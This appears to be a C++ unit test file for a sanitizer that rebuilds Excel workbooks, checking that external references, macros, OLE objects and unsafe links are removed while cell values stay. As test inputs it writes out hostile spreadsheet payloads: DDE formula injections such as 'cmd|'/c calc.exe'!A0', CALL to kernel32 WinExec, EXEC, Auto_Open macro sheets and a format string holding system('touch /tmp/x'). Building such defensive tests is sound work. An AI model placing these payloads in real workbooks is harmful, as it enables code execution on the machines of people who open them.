// Workbooks: what acts goes, cells keep their last values.
#include <catch2/catch.hpp>

#include "tests/unit/sanitizer/codec/ooxml/rebuilt.hpp"

using namespace mugaika;
using namespace mugaika::test;

namespace {

constexpr std::string_view sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
const std::string main_root = " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">";

std::string cell(const std::string& content) {
    return "<sheetData><row r=\"1\"><c r=\"A1\">" + content + "</c></row></sheetData>";
}
std::string formula(const std::string& words) { return cell("<f>" + words + "</f><v>4711</v>"); }
Package of_body(std::string body) {
    Package package;
    package.body = std::move(body);
    return package;
}
Package with_part(std::string body, const std::string& word, const std::string& name, const std::string& bytes,
                  const std::string& type) {
    Package package = of_body(std::move(body));
    package.relationships = relationship("rId1", word, "/" + name);
    package.parts = {{name, bytes}};
    package.types = override_type(name, type);
    return package;
}
Package of_workbook(std::string extra) {
    Package package = of_body(cell("<v>1</v>"));
    package.main_extra = std::move(extra);
    return package;
}

}  // namespace

TEST_CASE("AC-187 AC-194 a formula that reaches outside its workbook goes, the cell keeps its value") {
    const Reason outside = Reason::external_reference_removed;
    const Reason unknown = Reason::unknown_content_removed;
    std::vector<Variant> variants;
    const auto add = [&](const std::string& what, const std::string& words, Reason loss) {
        variants.push_back({what, of_body(formula(words)), {"<f>"}, {"<v>4711</v>"}, {loss}});
    };
    add("AC-187 DDE", "cmd|'/c calc.exe'!A0", outside);
    add("AC-187 a pipe, whatever follows", "cmd|calc", outside);
    add("AC-187 DDE, quoted", "'cmd|/c calc'!A0", outside);
    add("AC-187 DDE behind a blank and a sign", " -cmd |'/c calc'!A0", outside);
    add("AC-194 another workbook by number", "[1]Sheet1!A1", outside);
    add("AC-194 another workbook by path", "'C:\\x\\[b.xlsx]S'!A1", outside);
    add("AC-194 another workbook by address", "'http://h/[b.xlsx]S'!A1", outside);
    add("AC-194 inside a call", "SUM(1,[2]S!A1)", outside);
    add("AC-194 a sheet that is not there", "Macro1!A1", outside);
    add("AC-194 a span of sheets", "表1:Macro1!A1", outside);
    add("AC-194 WEBSERVICE", "_xlfn.WEBSERVICE(\"http://h/\"&amp;A1)", unknown);
    add("AC-194 IMAGE", "_xlfn.IMAGE(\"http://h/p.png\")", unknown);
    add("AC-194 RTD", "RTD(\"prog.id\",,1)", unknown);
    add("AC-186 CALL", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"x\",1)", unknown);
    add("AC-186 REGISTER.ID", "register.id(\"x\",\"y\")", unknown);
    add("AC-186 EXEC", "1+EXEC(\"calc\")", unknown);
    add("AC-184 a macro's function", "myFunc(1)", unknown);
    add("AC-184 a function behind a blank", "myFunc (1)", unknown);
    add("AC-184 a macro of a sheet", "表1!SUM(1)", unknown);
    add("AC-195 a link to a file", "HYPERLINK(\"file:///c:/x.exe\",\"x\")", outside);
    add("AC-195 a computed link", "HYPERLINK(A1&amp;\"x\")", outside);
    add("a quotation that does not end", "\"x", outside);
    check_variants(variants, xlsx_parts);
}

TEST_CASE("formulas that compute stay, with their values") {
    for (const std::string words :
         {"SUM(A1:B2)*2", "IF(A1&gt;3,\"[1]x|y\",表1!$B$2)", "'表1'!A1&amp;\"a\"\"b\"",
          "Table1[[#This Row],[金額]]+Table1[@a]", "_xlfn.XLOOKUP(1,A:A,B:B)", "[0]!own_name", "1/0+#REF!",
          "HYPERLINK(\"https://example.jp/\",\"x\")", "vlookup(1,A:B,2,FALSE)", "A1#", "{1,2;3,4}"}) {
        INFO(words);
        const FileMade made = rebuilt(made_zip(xlsx_parts(of_body(formula(words)))));
        CHECK(part_of(made.untrusted_bytes, "xl/worksheets/sheet1.xml").find("<f>" + words) != std::string::npos);
        CHECK(made.losses.empty());
    }
}

TEST_CASE("AC-202 the words of a number format are words: nothing evaluates them") {
    Package package = of_body(cell("<v>1</v>"));
    package.main_relationships = relationship("t1", "styles", "styles.xml");
    package.parts = {
        {"xl/styles.xml", "<styleSheet" + main_root +
                              "<numFmts count=\"1\"><numFmt numFmtId=\"164\" "
                              "formatCode=\"[&gt;123;system('touch /tmp/x')]0\"/></numFmts></styleSheet>"}};
    package.types = override_type("xl/styles.xml", std::string(sheet_type) + "styles+xml");
    const std::string words = "[&gt;123;system('touch /tmp/x')]0";
    check_variants({{"a condition that one reader ran", package, {}, {words, "<v>1</v>"}}}, xlsx_parts);
}

TEST_CASE("a shared formula goes in every cell that shares it") {
    const auto sheet = [](const std::string& master) {
        const Package package = of_body(
            "<sheetData><row r=\"1\"><c r=\"A1\"><f t=\"shared\" ref=\"A1:A2\" si=\"3\">" + master +
            "</f><v>1</v></c></row><row r=\"2\"><c r=\"A2\"><f t=\"shared\" si=\"3\"/><v>2</v></c></row></sheetData>");
        return part_of(rebuilt(made_zip(xlsx_parts(package))).untrusted_bytes, "xl/worksheets/sheet1.xml");
    };
    CHECK(sheet("B1+1").find("<f t=\"shared\" si=\"3\"/><v>2</v>") != std::string::npos);
    CHECK(sheet("[1]S!A1").find("<f") == std::string::npos);
}

TEST_CASE("AC-186 AC-191 AC-193 AC-194 AC-197 what a workbook brings along or fetches does not cross") {
    const Reason outside = Reason::external_reference_removed;
    Package macro_sheet = of_workbook(
        "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName><definedName "
        "name=\"Auto_Close\">表1!$A$1</definedName><definedName name=\"runs\" "
        "xlm=\"1\">表1!$A$1</definedName><definedName name=\"sees\">Macro1!$A$2</definedName><definedName "
        "name=\"stays\" localSheetId=\"0\">表1!$B$1</definedName></definedNames>");
    macro_sheet.sheets = "<sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\" r:id=\"m1\"/>";
    macro_sheet.main_relationships = relationship(
        "m1", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml");
    macro_sheet.parts = {
        {"xl/macrosheets/sheet1.xml",
         "<xm:macrosheet "
         "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><f>EXEC(\"calc\")</f></xm:macrosheet>"}};
    macro_sheet.types = override_type("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml");
    macro_sheet.main_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
    Package books = of_workbook(
        "<externalReferences><externalReference r:id=\"e1\"/></externalReferences><definedNames><definedName "
        "name=\"far\">[1]S!$A$1</definedName><definedName name=\"near\">表1!$A$1</definedName></definedNames>");
    books.main_relationships = relationship("e1", "externalLink", "externalLinks/externalLink1.xml");
    books.parts = {{"xl/externalLinks/externalLink1.xml",
                    "<externalLink" + main_root + "<ddeLink ddeService=\"cmd\" ddeTopic=\"calc\"/></externalLink>"}};
    books.types = override_type("xl/externalLinks/externalLink1.xml", std::string(sheet_type) + "externalLink+xml");
    Package connection = of_workbook("");
    connection.main_relationships =
        relationship("c1", "connections", "connections.xml") + relationship("c2", "volatileDependencies", "vol.xml");
    connection.parts = {
        {"xl/connections.xml", "<connections" + main_root + "<connection connection=\"secretDsn\"/></connections>"},
        {"xl/vol.xml", "<volTypes/>"}};
    connection.types = override_type("xl/connections.xml", std::string(sheet_type) + "connections+xml");
    check_variants(
        {{"AC-186 a very hidden macro sheet and names that run",
          macro_sheet,
          {"Macro1", "EXEC", "Auto_Open", "Auto_Close", "runs", "sees"},
          {"name=\"stays\" localSheetId=\"0\"", "<v>1</v>"},
          {Reason::macro_removed}},
         {"AC-194 other workbooks and DDE links", books, {"externalReference", "ddeLink", "far"}, {"near"}, {outside}},
         {"AC-194 connections", connection, {"secretDsn", "volTypes"}, {"<v>1</v>"}, {outside}},
         {"AC-194 a query behind a table",
          with_part(cell("<v>1</v>") + "<tableParts count=\"1\"><tablePart r:id=\"rId1\"/></tableParts>", "table",
                    "xl/tables/table7.xml",
                    "<table" + main_root.substr(0, main_root.size() - 1) +
                        " id=\"1\" displayName=\"T\" ref=\"A1:A2\" tableType=\"queryTable\" "
                        "connectionId=\"7\"><tableColumns><tableColumn id=\"1\" name=\"a\" "
                        "queryTableFieldId=\"1\"/></tableColumns></table>",
                    std::string(sheet_type) + "table+xml"),
          {"queryTable", "connectionId"},
          {"displayName=\"T\"", "<tablePart r:id=\"rId1\"/>"}},
         {"AC-191 OLE objects",
          with_part(cell("<v>1</v>") + "<oleObjects><oleObject progId=\"Package\" r:id=\"rId1\"/></oleObjects>",
                    "oleObject", "xl/embeddings/o.bin", "OLEOLE",
                    "application/vnd.openxmlformats-officedocument.oleObject"),
          {"oleObject", "OLEOLE"},
          {"<v>1</v>"},
          {Reason::embedded_object_removed}},
         {"AC-193 controls with macros",
          with_part(cell("<v>1</v>") + "<mc:AlternateContent><mc:Choice Requires=\"x14\"><controls><control "
                                       "r:id=\"rId1\" name=\"C\"/></controls></mc:Choice></mc:AlternateContent>",
                    "ctrlProp", "xl/ctrlProps/c.xml", "<formControlPr/>",
                    "application/vnd.ms-excel.controlproperties+xml"),
          {"control ", "mc:Choice", "formControlPr"},
          {"<v>1</v>"}},
         {"printer settings",
          with_part(cell("<v>1</v>") + "<pageSetup orientation=\"landscape\" r:id=\"rId1\"/>", "printerSettings",
                    "xl/printerSettings/p.bin", "DEVMODE",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"),
          {"DEVMODE", "printerSettings"},
          {"<pageSetup orientation=\"landscape\"/>"},
          {Reason::metadata_removed}},
         {"AC-194 a conditional format that looks outside",
          of_body(cell("<v>1</v>") + "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" "
                                     "priority=\"1\"><formula>[1]S!A1</formula></cfRule></conditionalFormatting>"),
          {"[1]S"},
          {"<formula>#REF!</formula>"},
          {outside}},
         {"AC-194 a validation that looks outside",
          of_body(cell("<v>1</v>") + "<dataValidations count=\"1\"><dataValidation type=\"list\" "
                                     "sqref=\"A1\"><formula1>cmd|'x'!A0</formula1></dataValidation></dataValidations>"),
          {"cmd|"},
          {"<formula1>#REF!</formula1>"},
          {outside}},
         {"AC-197 an extension of a kind that is not known",
          of_body(cell("<v>1</v>") + "<extLst><ext uri=\"{EVIL}\"><x14:conditionalFormattings/></ext></extLst>"),
          {"EVIL", "x14:conditionalFormattings"},
          {"<v>1</v>"}}},
        xlsx_parts);
}

TEST_CASE("AC-195 links of cells: http, https, mailto and places stay, others go") {
    Package package = of_body(cell("<v>1</v>") +
                              "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/><hyperlink ref=\"A2\" "
                              "r:id=\"rId2\"/><hyperlink ref=\"A3\" r:id=\"rId3\" location=\"表1!A1\"/></hyperlinks>");
    package.relationships = relationship("rId1", "hyperlink", "HTTPS://example.jp/ä", true) +
                            relationship("rId2", "hyperlink", "\\\\host\\share", true) +
                            relationship("rId3", "hyperlink", "macro:run", true);
    const FileMade made = rebuilt(made_zip(xlsx_parts(package)));
    CHECK(part_of(made.untrusted_bytes, "xl/worksheets/sheet1.xml")
              .find("<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/><hyperlink ref=\"A3\" "
                    "location=\"表1!A1\"/></hyperlinks>") != std::string::npos);
    CHECK(lost(made, Reason::external_reference_removed) == 2);
    package.body = cell("<v>1</v>") + "<hyperlinks><hyperlink ref=\"A2\" r:id=\"rId2\"/></hyperlinks>";
    CHECK(part_of(rebuilt(made_zip(xlsx_parts(package))).untrusted_bytes, "xl/worksheets/sheet1.xml")
              .find("hyperlinks") == std::string::npos);
}

TEST_CASE("what a workbook shows stays, and what it hides is said") {
    Package package = of_body(
        "<cols><col min=\"2\" max=\"2\" width=\"9\" hidden=\"1\"/></cols><sheetData><row r=\"1\" hidden=\"1\" "
        "ht=\"20\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"inlineStr\"><is><t xml:space=\"preserve\"> a&#10;b "
        "</t></is></c></row></sheetData><mergeCells count=\"1\"><mergeCell ref=\"A1:B1\"/></mergeCells><extLst><ext "
        "uri=\"{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}\"><x14:dataValidations count=\"1\"><x14:dataValidation "
        "type=\"list\"><x14:formula1><xm:f>表1!$A$1</xm:f></x14:formula1><xm:sqref>A1</xm:sqref></x14:dataValidation></"
        "x14:dataValidations></ext></extLst>");
    package.sheets = "<sheet name=\"隠し\" sheetId=\"7\" state=\"hidden\" r:id=\"s2\"/>";
    package.main_relationships = relationship("s2", "worksheet", "worksheets/sheet2.xml") +
                                 relationship("s3", "sharedStrings", "sharedStrings.xml");
    package.types = override_type("xl/worksheets/sheet2.xml", std::string(sheet_type) + "worksheet+xml") +
                    override_type("xl/sharedStrings.xml", std::string(sheet_type) + "sharedStrings+xml");
    package.parts = {
        {"xl/worksheets/sheet2.xml", "<worksheet" + main_root + "<sheetData/></worksheet>"},
        {"xl/sharedStrings.xml",
         "<sst" + main_root +
             "<si><t>東京</t><rPh sb=\"0\" eb=\"2\"><t>トウキョウ</t></rPh><phoneticPr fontId=\"1\"/></si></sst>"}};
    const FileMade made = rebuilt(made_zip(xlsx_parts(package)));
    const std::string all = all_text(made.untrusted_bytes);
    for (const std::string word : {"トウキョウ", "state=\"hidden\"", "<mergeCell ref=\"A1:B1\"/>",
                                   "<xm:f>表1!$A$1</xm:f>", "<t xml:space=\"preserve\"> a\nb </t>"}) {
        INFO(word << "\n" << all);
        CHECK(all.find(word) != std::string::npos);
    }
    CHECK(made.pages == 2);
    CHECK(lost(made, Reason::hidden_content_kept) == 3);
}

TEST_CASE("comments of cells get boxes of ours, the author's VML does not cross") {
    Package package = of_body(cell("<v>1</v>") + "<legacyDrawing r:id=\"rId1\"/>");
    package.relationships = relationship("rId1", "vmlDrawing", "../drawings/vmlDrawing1.vml") +
                            relationship("rId2", "comments", "../comments1.xml");
    package.types =
        "<Default Extension=\"vml\" ContentType=\"application/vnd.openxmlformats-officedocument.vmlDrawing\"/>" +
        override_type("xl/comments1.xml", std::string(sheet_type) + "comments+xml");
    package.parts = {
        {"xl/drawings/vmlDrawing1.vml", "<xml><v:shape onclick=\"evil\"></xml>"},
        {"xl/comments1.xml", "<comments" + main_root +
                                 "<authors><author>a</author></authors><commentList><comment ref=\"AB12\" "
                                 "authorId=\"0\"><text><t>remark</t></text></comment></commentList></comments>"}};
    const FileMade made = rebuilt(made_zip(xlsx_parts(package)));
    const std::string boxes = part_of(made.untrusted_bytes, "xl/drawings/vmlDrawing1.vml");
    CHECK(boxes.find("<x:Row>11</x:Row><x:Column>27</x:Column>") != std::string::npos);
    CHECK(boxes.find("evil") == std::string::npos);
    CHECK(lost(made, Reason::comments_kept) == 1);
    package.relationships = relationship("rId1", "vmlDrawing", "../drawings/vmlDrawing1.vml");
    CHECK(all_text(rebuilt(made_zip(xlsx_parts(package))).untrusted_bytes).find("legacyDrawing") == std::string::npos);
}

TEST_CASE("ISO Strict names are read, Transitional ones written") {
    const std::string strict = "http://purl.oclc.org/ooxml/";
    std::vector<MadePart> parts = xlsx_parts(of_body(cell("<v>1</v>")));
    for (MadePart& part : parts) {
        const auto swap = [&part](const std::string& from, const std::string& to) {
            for (std::size_t at = part.bytes.find(from); at != std::string::npos;
                 at = part.bytes.find(from, at + to.size()))
                part.bytes.replace(at, from.size(), to);
        };
        swap("http://schemas.openxmlformats.org/officeDocument/2006/relationships",
             strict + "officeDocument/relationships");
        swap("http://schemas.openxmlformats.org/spreadsheetml/2006/main", strict + "spreadsheetml/main");
    }
    const std::string all = all_text(rebuilt(made_zip(parts)).untrusted_bytes);
    CHECK(all.find("purl.oclc.org") == std::string::npos);
    CHECK(all.find("<v>1</v>") != std::string::npos);
}

TEST_CASE("a workbook without a sheet that may stay is not rebuilt") {
    std::vector<MadePart> parts = xlsx_parts(of_body(cell("<v>1</v>")));
    parts[3].bytes = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>";
    CHECK(not_rebuilt(made_zip(parts)).why == Reason::not_representable);
}

TEST_CASE("that Excel wrote a workbook is said, in one part that is always the same") {
    const auto made_of = [](const std::string& properties, std::vector<MadePart> (*parts)(const Package&)) {
        Package package;
        package.root = relationship("rId7", "extended-properties", "docProps/app.xml");
        package.types =
            override_type("docProps/app.xml", "application/vnd.openxmlformats-officedocument.extended-properties+xml");
        package.parts = {{"docProps/app.xml", properties}};
        if (parts == xlsx_parts) package.body = "<sheetData/>";
        return rebuilt(made_zip(parts(package)));
    };
    const auto named = [](const std::string& application, const std::string& name_space = "officeDocument/2006/") {
        return "<Properties xmlns=\"http://schemas.openxmlformats.org/" + name_space +
               "extended-properties\"><TotalTime>7</TotalTime><Company>Secret</Company><Application>" + application +
               "</Application><AppVersion>16.0300</AppVersion></Properties>";
    };
    const std::string ours =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Properties "
        "xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><Application>Microsoft "
        "Excel</Application></Properties>";
    for (const std::string& excel :
         {named("Microsoft Excel"), named("Microsoft Macintosh Excel"), named("Microsoft Excel", "any/")}) {
        const FileMade made = made_of(excel, xlsx_parts);
        CHECK(part_of(made.untrusted_bytes, "docProps/app.xml") == ours);
        CHECK(all_text(made.untrusted_bytes).find("Secret") == std::string::npos);
        CHECK(lost(made, Reason::metadata_removed) == 1);
        FilePurse purse{FileLimits{}};
        CHECK(std::get<FileMade>(codec::rebuild_ooxml(made.untrusted_bytes, purse)).losses.empty());
    }
    for (const std::string& other :
         {named("LibreOffice/7.4"), named(""), named("Excel by somebody"), std::string("<Properties>no XML"),
          std::string(), std::string("<Properties><a><Application>Microsoft Excel</Application></a></Properties>"),
          named(std::string(70'000, ' ') + "Microsoft Excel")}) {
        CHECK(part_of(made_of(other, xlsx_parts).untrusted_bytes, "docProps/app.xml").empty());
    }
    for (auto* parts : {docx_parts, pptx_parts}) {
        CHECK(part_of(made_of(named("Microsoft Excel"), parts).untrusted_bytes, "docProps/app.xml").empty());
    }
}
